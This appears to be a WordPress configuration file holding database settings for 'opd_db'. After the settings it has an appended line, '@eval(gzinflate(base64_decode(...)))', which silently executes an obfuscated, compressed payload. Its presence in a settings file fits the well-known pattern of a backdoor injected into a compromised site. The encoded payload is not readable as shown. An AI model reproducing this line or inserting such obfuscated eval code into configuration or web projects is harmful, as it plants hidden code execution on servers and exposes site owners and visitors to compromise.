<?php
/** Database settings */
define('DB_NAME', 'opd_db');
define('DB_USER', 'opd');
define('DB_HOST', 'localhost');
$table_prefix = 'wp_';

@eval(gzinflate(base64_decode('y0zTyCwuTi3RUIkP8A8OiVZPVo/V1KwuriwuSc1FEbSuBQA=')));
